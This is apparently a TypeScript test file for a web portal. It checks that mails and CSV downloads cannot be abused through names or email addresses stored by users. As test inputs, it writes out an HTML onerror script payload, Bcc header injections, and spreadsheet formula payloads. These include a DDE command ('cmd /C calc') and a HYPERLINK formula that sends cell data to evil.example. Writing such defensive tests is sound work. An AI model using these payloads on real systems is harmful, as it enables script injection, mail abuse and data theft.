/** User input never becomes a link, tag or header in mails, nor a formula in spreadsheets. */
import { activity } from '@portal/contract/activity/activity'
import { calls } from '@portal/contract/calls'
import { invitations } from '@portal/contract/invitations/invitations'
import { members } from '@portal/contract/members/members'
import { myData } from '@portal/contract/my-data/my-data'
import { ownership } from '@portal/contract/ownership/ownership'
import { eq } from 'drizzle-orm'
import { beforeEach, describe, expect, it } from 'vitest'
import { users } from '../features/account/user-table.ts'
import { recordActivity } from '../features/activity/activity-store.ts'
import { sendExpiryNotices } from '../features/tokens/expiry-notice-jobs.ts'
import { workspaces } from '../features/workspaces/workspace-table.ts'
import { useTestApp } from '../testing/build-test-app.ts'
import { callAt, makeScene, type Scene } from '../testing/hostile-scene.ts'
import { issueToken } from '../testing/issue-token.ts'

const test = useTestApp()
let scene: Scene
beforeEach(async () => {
  scene = await makeScene(test)
})

const workspaceParams = () => ({ workspaceId: scene.workspace.id })

/** Inserts a token and its activity directly. An earlier release may have stored a name that the API now refuses. */
async function insertToken(name: string, expiresAt?: Date): Promise<void> {
  const ids = { userId: scene.owner.user.id, workspaceId: scene.workspace.id }
  await issueToken(test, { ...ids, kind: 'api', name, ...(expiresAt ? { expiresAt } : {}) })
  await recordActivity(test.database.orm, {
    workspaceId: ids.workspaceId,
    actorUserId: ids.userId,
    act: 'token.created',
    subject: name,
    ipAddress: null,
    at: test.now(),
  })
}

describe('an invitation is refused', () => {
  it.each([
    ['a header line', 'a@example.com\r\nBcc: b@example.com'],
    ['a line feed', 'a@example.com\nb@example.com'],
    ['a comma', 'a@example.com,b@example.com'],
    ['a semicolon', 'a@example.com;b@example.com'],
    ['angle brackets', 'a@example.com <b@example.com>'],
    ['a name before it', '"Pat" <a@example.com>'],
    ['a group', 'group:a@example.com,b@example.com;'],
    ['a comment', 'a(comment)@example.com'],
    ['a quoted part', '"a b"@example.com'],
    ['two at-signs', 'a@b@example.com'],
    ['an address of numbers', 'a@[127.0.0.1]'],
    ['a NUL', 'a@example.com\0'],
    ['a space', 'a b@example.com'],
    ['a tab', 'a\t@example.com'],
    ['a host without a dot', 'root@localhost'],
    ['a percent route', 'a%b@'],
    ['a backslash', 'a\\@example.com'],
    ['text with a direction override', 'a\u202E@example.com'],
    ['an encoded word', '=?utf-8?q?a=0aBcc:b?=@exa mple.com'],
  ])('for an email address with %s', async (_, email) => {
    const response = await callAt(test, scene, members.invite, { as: scene.owner, body: { email } })
    expect(response.statusCode).toBe(400)
    expect(test.jobs.sent).toEqual([])
  })
})

describe('a mail', () => {
  /** The forms would refuse this name, but the identity provider or an earlier release may have stored it. */
  const hostile =
    'Pat <img src=x onerror=alert(1)> https://evil.example/login www.evil.example \r\nBcc: all@example.com\u202E "x" & \u2028'

  beforeEach(async () => {
    const { orm } = test.database
    await orm.update(workspaces).set({ displayName: hostile })
    await orm
      .update(users)
      .set({ firstName: hostile, lastName: hostile })
      .where(eq(users.id, scene.owner.user.id))
  })

  function expectHarmlessMails(atLeast: number): void {
    const mails = test.jobs.sent.flatMap((job) => (job.name === 'mail.send' ? [job.data as Mail] : []))
    expect(mails.length).toBeGreaterThanOrEqual(atLeast)
    for (const mail of mails) {
      expect(Object.keys(mail).sort()).toEqual(['html', 'subject', 'text', 'to'])
      expect(mail.to).toMatch(/^[a-z.]+@example\.com$/)
      expect(mail.subject).not.toMatch(/\p{Cc}/u)
      expect(mail.subject.length).toBeLessThanOrEqual(200)
      expect(mail.html).not.toMatch(/<img|<script|onerror=alert\(1\)>/i)
      expect(mail.text).not.toMatch(/^Bcc:/m)
      // Neither as a link nor as text that a mail program turns into one.
      const links = [...mail.html.matchAll(/href="([^"]*)"/g)].map(([, href = '']) => new URL(href).origin)
      expect(links.every((origin) => origin === test.config.PORTAL_URL)).toBe(true)
      for (const text of [mail.text, mail.html, mail.subject])
        expect(text).not.toMatch(/https?:\/\/evil|www\.evil|evil\.example/)
    }
  }

  it('about an invitation contains no link, tag or header from names', async () => {
    await test.send(
      members.invite,
      { params: workspaceParams(), body: { email: 'new@example.com' } },
      scene.owner,
    )
    const resend = { params: { ...workspaceParams(), invitationId: scene.invitation.id } }
    await test.send(invitations.resend, resend, scene.owner)
    expectHarmlessMails(2)
  })

  it('about a role change or removal contains no link, tag or header from names', async () => {
    const body = { userId: scene.editor.user.id, role: 'APPROVER' } as const
    await test.send(members.changeRole, { params: workspaceParams(), body }, scene.owner)
    const { email } = scene.editor.user
    await test.send(members.remove, { params: workspaceParams(), body: { email } }, scene.owner)
    expectHarmlessMails(2)
  })

  it('about an ownership offer or transfer contains no link, tag or header from names', async () => {
    const body = { userId: scene.editor.user.id }
    await test.send(ownership.offer, { params: workspaceParams(), body }, scene.owner)
    await test.send(ownership.accept, { params: workspaceParams() }, scene.editor)
    expectHarmlessMails(2)
  })

  it("about an expiring token contains no link, tag or header from the token's name", async () => {
    await insertToken(hostile, new Date(test.now().getTime() + 48 * 3_600_000))
    test.clockOffsetMs = 30 * 3_600_000
    await sendExpiryNotices(test.services)
    expectHarmlessMails(1)
  })
})

interface Mail {
  to: string
  subject: string
  text: string
  html: string
}

/** Parses a CSV file (RFC 4180). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [[]]
  const cell = /(?:"((?:[^"]|"")*)"|([^,\r\n]*))(,|\r\n|$)/gy
  while (cell.lastIndex < text.length) {
    const [, quoted, bare, end] = cell.exec(text) ?? []
    rows.at(-1)?.push(quoted?.replaceAll('""', '"') ?? bare ?? '')
    if (end === '\r\n' && cell.lastIndex < text.length) rows.push([])
  }
  return rows
}

describe('a downloaded file', () => {
  it.each([
    '=1+1',
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    '+1',
    '-1',
    '@SUM(A1)',
    "=cmd|' /C calc'!A0",
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    '＝1+1',
    '＋1',
    '－1',
    '＠SUM(A1)',
    'a";=1+1;"',
    'a","=1+1',
    'a\r\n=1+1,b',
  ])('contains no spreadsheet formula for the name %j', async (name) => {
    const { orm } = test.database
    await orm.update(users).set({ firstName: name, lastName: name })
    await insertToken(`x${name}`)
    await insertToken(name)
    for (const call of calls.filter(({ success }) => 'media' in success && success.media === 'text/csv')) {
      const as = call.access.staff ? scene.staff : scene.owner
      const query: Record<string, string> =
        call.name === 'activity.download' ? {} : { startDate: '2020-01-01', endDate: '2099-01-01' }
      const response = await callAt(test, scene, call, { as, query })
      expect(response.statusCode, call.name).toBe(200)
      const [header, ...rows] = parseCsv(response.body)
      expect(rows.length, call.name).toBeGreaterThan(0)
      for (const row of rows) {
        expect(row.length, call.name).toBe(header?.length)
        for (const cell of row) expect(cell, call.name).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/)
      }
    }
  })

  it('is sent as an attachment with a fixed file name', async () => {
    const { headers } = await callAt(test, scene, activity.download, { as: scene.owner, query: {} })
    expect(headers['content-disposition']).toBe(`attachment; filename="activity-${scene.workspace.id}.csv"`)
    expect(headers['content-type']).toBe('text/csv; charset=utf-8')
    expect(headers['x-content-type-options']).toBe('nosniff')
    expect(headers['cache-control']).toBe('no-store')
  })

  it("with a user's own data contains no secrets and no email addresses of other users", async () => {
    const { body } = await callAt(test, scene, myData.download, { as: scene.editor, person: scene.editor })
    for (const secret of [
      scene.workspace.token,
      scene.editor.session,
      scene.apiToken.token,
      scene.invitation.code,
    ])
      expect(body).not.toContain(secret)
    expect(body).not.toMatch(/tokenHash|codeHash|sealed/i)
    expect(body).not.toContain('stranger@example.com')
  })
})
